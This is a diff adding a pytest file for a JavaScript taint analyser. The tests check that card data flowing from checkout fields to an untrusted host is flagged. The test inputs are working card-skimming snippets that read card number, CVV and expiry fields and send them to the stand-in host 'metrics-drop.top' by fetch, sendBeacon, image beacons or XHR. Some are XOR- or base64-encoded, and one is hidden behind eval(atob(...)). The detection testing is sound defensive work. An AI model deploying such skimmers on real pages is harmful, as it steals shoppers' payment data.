@@ -1,0 +1,89 @@
+"""Taint: card data followed through variables, properties, arrays, closures, encoders,
+custom functions, classes and storage to network sinks — and not where it does not flow."""
+
+from __future__ import annotations
+
+import pytest
+
+from .conftest import findings_of
+
+DROP = "https://metrics-drop.top/c"
+
+FLOWS = {
+    "variable": f"var v = document.querySelector('#cc-number').value; var w = v;\n"
+                f"fetch('{DROP}', {{method: 'POST', body: w}});",
+    "object property": f"var o = {{}}; o.n = document.getElementById('cardnumber').value;\n"
+                       f"navigator.sendBeacon('{DROP}', JSON.stringify(o));",
+    "array push": f"var a = []; a.push(document.querySelector('[name=\"cc_cvv\"]').value);\n"
+                  f"new Image().src = '{DROP}?d=' + a.join(',');",
+    "closure": f"var pan = document.querySelector('#cc_number').value;\n"
+               f"setTimeout(function () {{ fetch('{DROP}?p=' + btoa(pan)); }}, 500);",
+    "custom encoder": f"function enc(s) {{ var o = ''; for (var i = 0; i < s.length; i++) "
+                      f"o += String.fromCharCode(s.charCodeAt(i) ^ 7); return o; }}\n"
+                      f"var c = enc(document.querySelector('#card_number').value);\n"
+                      f"fetch('{DROP}', {{method: 'POST', body: c}});",
+    "function parameter": f"function send(d) {{ var x = new XMLHttpRequest(); "
+                          f"x.open('POST', '{DROP}'); x.send(d); }}\n"
+                          f"send(encodeURIComponent(document.querySelector('#cvv').value));",
+    "storage": f"localStorage.setItem('k', document.querySelector('#cc-exp').value);\n"
+               f"fetch('{DROP}', {{method: 'POST', body: localStorage.getItem('k')}});",
+    "class field": f"class C {{ constructor(u) {{ this.u = u; }}\n"
+                   f"  go(d) {{ fetch(this.u, {{method: 'POST', body: d}}); }} }}\n"
+                   f"new C('{DROP}').go(document.querySelector('#cc_number').value);",
+    "event target": f"document.querySelector('#cc_number').addEventListener('blur', "
+                    f"function (e) {{ navigator.sendBeacon('{DROP}', e.target.value); }});",
+    "selector in a list": f"['#cc_number', '#cc_cvv'].forEach(function (s) {{\n"
+                          f"  var el = document.querySelector(s);\n"
+                          f"  fetch('{DROP}', {{method: 'POST', body: el.value}}); }});",
+    "form sweep": f"var d = [];\n"
+                  f"document.querySelectorAll('input, select').forEach(function (i) "
+                  f"{{ d.push(i.value); }});\n"
+                  f"navigator.sendBeacon('{DROP}', btoa(d.join('|')));",
+}
+
+
+@pytest.mark.parametrize("name", list(FLOWS))
+def test_flow_reaches_sink(name: str, analyze) -> None:  # type: ignore[no-untyped-def]
+    report = analyze(FLOWS[name])
+    found = findings_of(report, "card-data-to-untrusted-host")
+    assert found, [f.rule for f in report.findings]
+    assert found[0].evidence["host"] == "metrics-drop.top"
+    assert len(found[0].flow) >= 2  # from the source to the sink
+
+
+NO_FLOWS = {
+    "unrelated data": f"var v = document.querySelector('#cc-number');\n"
+                      f"fetch('{DROP}', {{method: 'POST', body: JSON.stringify({{page: 1}})}});",
+    "same name, other function": "function a() { var e = document.querySelector('#cc_cvv').value;"
+                                 " return e.length; }\n"
+                                 f"function b() {{ var e = 'x'; fetch('{DROP}?q=' + e); }}",
+    "first party": "fetch('/checkout/pay', {method: 'POST', "
+                   "body: document.querySelector('#cc_number').value});",
+    "processor": "fetch('https://api.stripe.com/v1/tokens', {method: 'POST', "
+                 "body: 'card[number]=' + document.querySelector('#cc_number').value});",
+}
+
+
+@pytest.mark.parametrize("name", list(NO_FLOWS))
+def test_no_false_flow(name: str, analyze) -> None:  # type: ignore[no-untyped-def]
+    report = analyze(NO_FLOWS[name])
+    assert not findings_of(report, "card-data-to-untrusted-host"), report.findings
+
+
+def test_flow_evidence_names_encoding(analyze) -> None:  # type: ignore[no-untyped-def]
+    report = analyze(FLOWS["closure"])
+    [finding] = findings_of(report, "card-data-to-untrusted-host")
+    assert finding.evidence["encoded"] == ["base64"]
+    assert finding.evidence["labels"] == ["card"]
+    assert finding.location is not None and finding.location.line == 2
+
+
+def test_multi_stage_eval_is_analysed(analyze) -> None:  # type: ignore[no-untyped-def]
+    import base64
+
+    stage2 = (f"var v = document.querySelector('#cc_number').value;"
+              f" fetch('{DROP}', {{method: 'POST', body: v}});")
+    code = f"eval(atob('{base64.b64encode(stage2.encode()).decode()}'));"
+    report = analyze(code)
+    assert findings_of(report, "card-data-to-untrusted-host")
+    assert findings_of(report, "eval-of-decoded-code")
